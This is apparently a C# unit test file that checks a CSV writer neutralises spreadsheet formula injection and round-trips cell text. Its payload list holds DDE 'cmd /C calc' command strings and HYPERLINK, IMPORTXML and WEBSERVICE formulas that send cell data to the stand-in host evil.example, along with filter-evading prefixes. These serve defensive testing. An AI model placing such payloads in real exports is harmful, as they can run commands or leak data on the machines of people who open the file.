using System.Text;
using Map.Core.Tables;

namespace Map.Core.Tests.Tables;

public class CsvTableTests
{
    /// <summary>What spreadsheets run, and what looks like it.</summary>
    public static IEnumerable<string> Payloads()
    {
        string[] formulas =
        [
            "cmd|' /C calc'!A0", "1+1", "SUM(A1:A9)", "HYPERLINK(\"https://evil.example/?x=\"&A1,\"press\")", "IMPORTXML(CONCAT(\"https://evil.example/\",A2),\"//a\")", "DDE(\"cmd\";\"/C calc\";\"x\")", "WEBSERVICE(\"https://evil.example\")",
        ];
        string[] starts = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "'=", "''=", "=+", "-+", "@="];
        return starts.SelectMany(start => formulas.Select(formula => start + formula)).Concat(["=", "-", "'", "''", "'-", "-33.5", "+963 11", "@somebody", "إدلب", "=إدلب", "a=b", " =1", "", "\"", "a,b", "a\"b\r\nc"]);
    }

    [Fact]
    public void No_text_begins_a_cell_as_a_formula_and_every_one_comes_back_as_it_was()
    {
        List<string> payloads = [.. Payloads()];
        Assert.True(payloads.Count > 100);
        foreach (var payload in payloads)
        {
            var cell = SafeCell.Of(payload);
            Assert.DoesNotContain(cell.FirstOrDefault('x'), "=+-@＝＋－＠\t\r\n");
            Assert.Equal(payload, SafeCell.Original(cell));
        }
    }

    [Fact]
    public void A_table_reopened_holds_what_was_put_in()
    {
        List<string> payloads = [.. Payloads()];
        var table = new CsvTable("text", "degrees", "number", "nothing");
        foreach (var payload in payloads) table.Row(payload, -36.2021, -12, null);
        var bytes = table.ToBytes();

        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
        var rows = Csv.Read(Encoding.UTF8.GetString(bytes.AsSpan(3)));
        Assert.Equal(["text", "degrees", "number", "nothing"], rows[0]);
        Assert.Equal(payloads, rows[1..].Select(row => SafeCell.Original(row[0])));
        Assert.All(rows[1..], row => Assert.Equal(["-36.2021", "-12", ""], row[1..]));
    }

    [Fact]
    public void What_is_neither_text_nor_number_is_no_cell() =>
        Assert.Throws<ArgumentException>(() => new CsvTable("a").Row(new object()));
}
